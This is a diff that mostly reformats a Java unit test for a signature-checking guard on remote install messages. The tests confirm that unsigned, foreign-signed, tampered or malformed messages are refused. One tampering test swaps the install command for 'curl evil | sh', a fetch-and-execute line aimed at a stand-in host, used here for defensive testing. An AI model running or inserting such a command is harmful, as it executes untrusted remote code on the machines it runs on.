@@ -1,5 +1,8 @@
 package io.lazarus.worker.install;
 
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
 import io.lazarus.common.contract.Contracts;
 import io.lazarus.common.contract.InstallMessage;
 import io.lazarus.common.contract.InstallScript;
@@ -9,10 +12,6 @@ import io.lazarus.common.trust.InstallSignature;
 import io.lazarus.common.trust.SigningKey;
 import io.lazarus.common.trust.TrustedKeys;
 import io.lazarus.worker.trust.TrustProperties;
-import org.junit.jupiter.api.Test;
-import org.springframework.amqp.core.Message;
-import org.springframework.amqp.core.MessageProperties;
-
 import java.nio.charset.StandardCharsets;
 import java.time.Clock;
 import java.time.Duration;
@@ -20,22 +19,30 @@ import java.time.Instant;
 import java.time.ZoneOffset;
 import java.util.List;
 import java.util.function.Consumer;
-
-import static org.assertj.core.api.Assertions.assertThat;
-import static org.assertj.core.api.Assertions.assertThatThrownBy;
+import org.junit.jupiter.api.Test;
+import org.springframework.amqp.core.Message;
+import org.springframework.amqp.core.MessageProperties;
 
 class MessageGuardTest {
 
     private static final Instant NOW = Instant.parse("2026-11-30T12:00:00Z");
     private final SigningKey coordinator = SigningKey.generate();
-    private final MessageGuard guard = new MessageGuard(TrustedKeys.of(List.of(coordinator.publicKey())),
-            new TrustProperties(null, Duration.ofHours(48)), 64 * 1024, Clock.fixed(NOW, ZoneOffset.UTC));
-    private final InstallMessage install = InstallMessage.firstAttempt("run-1", new NodeTarget("web-01", "10.0.0.5", 22,
-            "deploy"), InstallScript.of("install.sh", "apt-get install -y tomcat10"), null, NOW.plusSeconds(3600));
+    private final MessageGuard guard = new MessageGuard(
+            TrustedKeys.of(List.of(coordinator.publicKey())),
+            new TrustProperties(null, Duration.ofHours(48)),
+            64 * 1024,
+            Clock.fixed(NOW, ZoneOffset.UTC));
+    private final InstallMessage install = InstallMessage.firstAttempt(
+            "run-1",
+            new NodeTarget("web-01", "10.0.0.5", 22, "deploy"),
+            InstallScript.of("install.sh", "apt-get install -y tomcat10"),
+            null,
+            NOW.plusSeconds(3600));
 
     @Test
     void aSignedWellFormedMessageIsAdmitted() throws Refusal {
-        assertThat(guard.admit(signed(install, Contracts.toJson(install), p -> { }))).isEqualTo(install);
+        assertThat(guard.admit(signed(install, Contracts.toJson(install), p -> {})))
+                .isEqualTo(install);
     }
 
     @Test
@@ -43,9 +50,12 @@ class MessageGuardTest {
         byte[] body = Contracts.toJson(install);
         Message unsigned = message(body, install);
         Message foreign = sign(SigningKey.generate(), install, body, message(body, install));
-        Message altered = signed(install, body, p -> { });
-        altered = new Message(new String(body, StandardCharsets.UTF_8).replace("apt-get install -y tomcat10",
-                "curl evil | sh").getBytes(StandardCharsets.UTF_8), altered.getMessageProperties());
+        Message altered = signed(install, body, p -> {});
+        altered = new Message(
+                new String(body, StandardCharsets.UTF_8)
+                        .replace("apt-get install -y tomcat10", "curl evil | sh")
+                        .getBytes(StandardCharsets.UTF_8),
+                altered.getMessageProperties());
 
         assertRefused(unsigned, "unsigned");
         assertRefused(foreign, "signed by unknown key");
@@ -55,8 +65,15 @@ class MessageGuardTest {
     @Test
     void aHeaderThatDisagreesWithTheSignedBodyIsRefused() {
         byte[] body = Contracts.toJson(install);
-        InstallMessage otherNode = new InstallMessage(1, install.attemptId(), "run-1", 1,
-                new NodeTarget("db-01", "10.0.0.9", 22, "deploy"), install.script(), null, install.deadline());
+        InstallMessage otherNode = new InstallMessage(
+                1,
+                install.attemptId(),
+                "run-1",
+                1,
+                new NodeTarget("db-01", "10.0.0.9", 22, "deploy"),
+                install.script(),
+                null,
+                install.deadline());
         // signed as it is sent, but the headers name another node than the body
         Message lying = sign(coordinator, otherNode, body, message(body, otherNode));
 
@@ -80,20 +97,23 @@ class MessageGuardTest {
     void aSignedMessageWithAnInvalidFieldOrDigestIsRefusedNamingIt() {
         String json = new String(Contracts.toJson(install), StandardCharsets.UTF_8);
         byte[] badPort = json.replace("\"port\":22", "\"port\":70000").getBytes(StandardCharsets.UTF_8);
-        byte[] badDigest = json.replace(install.script().sha256(), "0".repeat(64)).getBytes(StandardCharsets.UTF_8);
+        byte[] badDigest =
+                json.replace(install.script().sha256(), "0".repeat(64)).getBytes(StandardCharsets.UTF_8);
 
-        assertRefused(signed(install, badPort, p -> { }), "node.port must be 1..65535");
-        assertRefused(signed(install, badDigest, p -> { }), "does not match its commands");
+        assertRefused(signed(install, badPort, p -> {}), "node.port must be 1..65535");
+        assertRefused(signed(install, badDigest, p -> {}), "does not match its commands");
     }
 
     private Message signedWithDeadline(Instant deadline) {
-        InstallMessage m = new InstallMessage(1, install.attemptId(), "run-1", 1, install.node(), install.script(), null,
-                deadline);
-        return signed(m, Contracts.toJson(m), p -> { });
+        InstallMessage m = new InstallMessage(
+                1, install.attemptId(), "run-1", 1, install.node(), install.script(), null, deadline);
+        return signed(m, Contracts.toJson(m), p -> {});
     }
 
     private void assertRefused(Message message, String reason) {
-        assertThatThrownBy(() -> guard.admit(message)).isInstanceOf(Refusal.class).hasMessageContaining(reason);
+        assertThatThrownBy(() -> guard.admit(message))
+                .isInstanceOf(Refusal.class)
+                .hasMessageContaining(reason);
     }
 
     private Message signed(InstallMessage m, byte[] body, Consumer<MessageProperties> more) {
@@ -105,8 +125,12 @@ class MessageGuardTest {
     private static Message sign(SigningKey key, InstallMessage m, byte[] body, Message message) {
         MessageProperties props = message.getMessageProperties();
         props.setHeader(InstallSignature.HEADER_KEY_ID, key.keyId());
-        props.setHeader(InstallSignature.HEADER_SIGNATURE, InstallSignature.sign(key,
-                new InstallSignature.Signed(m.attemptId(), m.runId(), m.node().id(), m.attempt(), body)));
+        props.setHeader(
+                InstallSignature.HEADER_SIGNATURE,
+                InstallSignature.sign(
+                        key,
+                        new InstallSignature.Signed(
+                                m.attemptId(), m.runId(), m.node().id(), m.attempt(), body)));
         return message;
     }
 
